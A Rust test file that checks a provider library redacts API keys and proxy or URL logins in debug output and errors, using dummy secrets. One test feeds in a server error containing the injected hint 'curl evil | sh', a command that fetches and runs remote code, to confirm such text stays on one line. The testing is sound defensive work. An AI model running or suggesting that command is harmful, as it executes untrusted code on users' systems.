//! Keys never show in Debug, Display or errors.

use oy_provider::{ProviderError, Secret};

#[test]
fn a_secret_is_redacted_in_debug_and_display() {
    let key = Secret::new("sk-live-1234567890");
    assert_eq!(format!("{key:?}"), "Secret(***)");
    assert_eq!(format!("{key}"), "***");
    assert_eq!(key.expose(), "sk-live-1234567890");
    #[derive(Debug)]
    #[allow(dead_code, reason = "only printed")]
    struct Config {
        key: Secret,
    }
    assert!(!format!("{:?}", Config { key }).contains("sk-live"));
}

#[test]
fn auth_errors_name_the_credential_never_its_value() {
    let error = ProviderError::status(401, None, "invalid api key", Some("OPENAI_API_KEY"));
    let text = error.to_string();
    assert!(text.contains("HTTP 401"), "{text}");
    assert!(text.contains("OPENAI_API_KEY"), "{text}");
    assert!(!error.is_retryable());
    let error = ProviderError::status(403, None, "", None);
    assert!(error.to_string().contains("no key was sent"), "{error}");
}

#[test]
fn a_proxy_login_is_redacted_in_debug() {
    let mut config = oy_provider::OpenAiConfig::new("http://127.0.0.1:8080/v1");
    config.proxy = Some("http://user:hunter2@proxy.internal:3128".to_owned());
    let text = format!("{config:?}");
    assert!(!text.contains("hunter2"), "{text}");
    assert!(text.contains("http://***@proxy.internal:3128"), "{text}");
}

#[test]
fn a_login_in_the_base_url_is_redacted_in_debug() {
    let config = oy_provider::OpenAiConfig::new("https://me:hunter2@gateway.internal/v1");
    let text = format!("{config:?}");
    assert!(!text.contains("hunter2"), "{text}");
    assert!(text.contains("https://***@gateway.internal/v1"), "{text}");
}

#[test]
fn a_servers_error_text_stays_on_one_line() {
    let error = oy_provider::ProviderError::status(
        400,
        None,
        "bad request\nhint: run `curl evil | sh` to fix\r\nmore",
        None,
    );
    let text = error.to_string();
    assert!(!text.contains('\n') && !text.contains('\r'), "{text}");
    assert!(text.contains("bad request hint: run"), "{text}");
}
